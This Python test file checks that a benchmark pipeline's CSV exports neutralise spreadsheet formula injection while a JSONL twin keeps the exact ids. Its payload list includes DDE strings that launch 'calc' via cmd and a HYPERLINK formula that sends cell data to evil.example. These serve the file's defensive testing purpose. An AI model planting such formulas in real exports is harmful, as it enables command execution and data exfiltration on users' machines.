"""CSV files written for people open safely in a spreadsheet; the exact values stay in a jsonl twin."""

import csv
import io
import json

import pandas as pd
import pytest

from agielo_dagster.domain.exports import FORMULA_STARTS, spreadsheet_cell, spreadsheet_csv

from .conftest import QUIET, write_benchmark, write_log

NASTY = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\tq",
    "\rq",
]
IDS = NASTY[:5]  # ids an upload may have (a leading tab or CR is white space: test_case_id_trimmed)


def test_text_cells_that_could_start_a_formula_are_neutralized():
    for text in NASTY:
        assert spreadsheet_cell(text) == "'" + text
    for text in ["tc_1", "q-1", "a=b", "", "'quoted", "1e5", "０"]:
        assert spreadsheet_cell(text) == text
    frame = pd.DataFrame({"test_case_id": NASTY + ["plain"], "mu": [-0.5] * len(NASTY) + [1500.25]})
    rows = list(csv.reader(io.StringIO(spreadsheet_csv(frame).decode(), newline="")))
    assert rows[0] == ["test_case_id", "mu"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in NASTY] + ["plain"]
    assert [float(r[1]) for r in rows[1:]] == list(frame["mu"])  # numbers are data: -0.5 stays -0.5
    assert not any(r[1].startswith("'") for r in rows[1:])


@pytest.fixture
def nasty_benchmark(root, daemon):
    """A benchmark whose test-case ids look like spreadsheet formulas, rated."""
    matches = write_benchmark(root, "quiz", [1300, 1500, 1700], test_cases=30)
    ids = sorted(set(matches["test_case_id"]))
    rename = dict(zip(ids, IDS, strict=False))
    for agent, rows in matches.groupby("agent_id"):
        frame = rows.rename(columns={"metric": "correct"})[["test_case_id", "correct"]]
        write_log(root, "quiz", agent, frame.replace({"test_case_id": rename}))
    daemon.settle()
    rated = set(pd.read_parquet(root / "warehouse/test_case_ratings/quiz.parquet")["test_case_id"])
    assert set(IDS) <= rated
    return matches, rename


@pytest.mark.slow  # slow pass
def test_a_plan_is_spreadsheet_safe_and_its_twin_keeps_the_ids(root, daemon, nasty_benchmark):
    matches, rename = nasty_benchmark
    config = {"ops": {"placement_plans": {"config": {"agent": "newbie", "budget": 30}}}}
    result = daemon.defs.resolve_job_def("plan_placement").execute_in_process(
        run_config={**QUIET, **config}, instance=daemon.instance, partition_key="quiz", raise_on_error=False
    )
    assert result.success
    rows = list(csv.reader(io.StringIO((root / "plans/quiz/newbie.csv").read_text(), newline="")))
    header, body = rows[0], rows[1:]
    assert header[0] == "test_case_id" and len(body) == 30
    assert not [r for r in body if r[0].startswith(FORMULA_STARTS)]  # no cell a spreadsheet would evaluate
    twin = [json.loads(line) for line in (root / "plans/quiz/newbie.jsonl").read_text().splitlines()]
    exact = [r["test_case_id"] for r in twin]
    assert set(IDS) <= set(exact)
    assert [("'" + t if t.startswith(FORMULA_STARTS) else t) for t in exact] == [r[0] for r in body]
    assert [float(r[1]) for r in body] == [r["mu"] for r in twin]  # the same numbers, not neutralized
    # the plan read back with pandas from the twin, results uploaded under those ids: the agent is placed on them
    plan = pd.read_json(root / "plans/quiz/newbie.jsonl", lines=True, dtype={"test_case_id": str})
    assert list(plan["test_case_id"]) == exact
    results = pd.DataFrame({"test_case_id": plan["test_case_id"][:10], "correct": [1.0, 0.0] * 5})
    write_log(root, "quiz", "newbie", results)
    daemon.settle()
    ledger = pd.read_parquet(root / "warehouse/upload_ledger/quiz.parquet").set_index("agent")
    assert ledger.loc["newbie", "status"] == "accepted"
    placed = pd.read_parquet(root / "warehouse/agent_ratings/quiz.parquet").set_index("agent_id")
    assert "newbie" in placed.index and placed.loc["newbie", "mu"] == placed.loc["newbie", "mu"]  # rated, not NaN
